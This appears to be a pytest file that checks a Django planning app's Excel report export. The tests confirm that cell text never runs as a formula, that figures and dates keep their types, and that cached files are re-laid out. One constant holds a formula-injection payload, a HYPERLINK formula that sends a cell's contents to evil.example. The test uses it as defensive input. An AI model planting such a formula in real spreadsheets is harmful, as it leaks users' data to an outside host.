"""Generated .xlsx files: figures are numbers, dates are dates, no text runs as a formula, never empty."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from django.urls import reverse

from tests.conftest import County
from tests.factories import make_task
from tests.reports.supervision_data import published_bulletin, scored_round
from vetplan.reports.formatters import FORMATTERS
from vetplan.reports.supervision_report import round_report
from vetplan.reports.task_list import task_list_report
from vetplan.supervision.models import Bulletin

TODAY = dt.date(2026, 11, 25)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture(autouse=True)
def _fresh_report_cache(settings: Any, tmp_path: Any) -> None:
    settings.CACHES = {**settings.CACHES, "reports": {**settings.CACHES["reports"], "LOCATION": tmp_path / "cache"}}


def workbook(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def formula_cells(book: Any) -> list[str]:
    return [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_task_written_as_a_formula_is_text_in_the_task_list(county: County) -> None:
    make_task(county.plan, "9", lead=[county.education], text=FORMULA)
    book = workbook(FORMATTERS["xlsx"](task_list_report(county.plan, TODAY)))
    assert formula_cells(book) == []
    texts = [row[1] for row in book.active.iter_rows(min_row=3, values_only=True)]
    assert "'" + FORMULA in texts


def test_a_round_title_written_as_a_formula_is_text_in_the_round_report(county: County) -> None:
    round_ = scored_round(county)
    round_.title = "=2026年度督导"
    book = workbook(FORMATTERS["xlsx"](round_report(round_, TODAY)))
    assert formula_cells(book) == []


def test_the_round_results_are_numbers_a_spreadsheet_can_add_up(county: County) -> None:
    round_ = scored_round(county)
    book = workbook(FORMATTERS["xlsx"](round_report(round_, TODAY)))
    rows = list(book["督导评估结果"].iter_rows(min_row=3, values_only=True))
    totals = [row[7] for row in rows if row[7] != "—"]
    assert totals and all(isinstance(total, int | float) for total in totals)
    assert all(isinstance(row[0], int) for row in rows if row[0] != "—")  # 排名
    interview = book["约谈记录"]["A3"]
    assert interview.is_date and interview.value == dt.datetime(2026, 10, 9)
    deadline = book["整改通知"]["E3"]
    assert deadline.is_date


def test_a_bulletin_naming_no_unit_downloads_as_a_sheet_with_its_text(county: County, client_as: Any) -> None:
    bulletin = published_bulletin(county, kind=Bulletin.Kind.GENERAL, organizations=[], body="=1+1\n全县工作进展顺利。")
    response = client_as(None).get(reverse("reports:bulletin", args=[bulletin.pk, "xlsx"]))
    assert response.status_code == 200
    book = workbook(response.content)
    texts = [value for row in book.active.iter_rows(values_only=True) for value in row]
    assert texts == [bulletin.title, "'=1+1", "全县工作进展顺利。"]


def test_a_file_laid_out_by_an_older_formatter_is_laid_out_anew(
    county: County, client_as: Any, monkeypatch: Any
) -> None:
    from vetplan.reports import views

    bulletin = published_bulletin(county)
    url = reverse("reports:bulletin", args=[bulletin.pk, "xlsx"])
    calls = []
    real = views.FORMATTERS["xlsx"]
    monkeypatch.setitem(views.FORMATTERS, "xlsx", lambda document: calls.append(1) or real(document))
    client_as(None).get(url)
    client_as(None).get(url)
    monkeypatch.setitem(views.LAYOUT_VERSIONS, "xlsx", views.LAYOUT_VERSIONS["xlsx"] + 1)
    client_as(None).get(url)
    assert len(calls) == 2
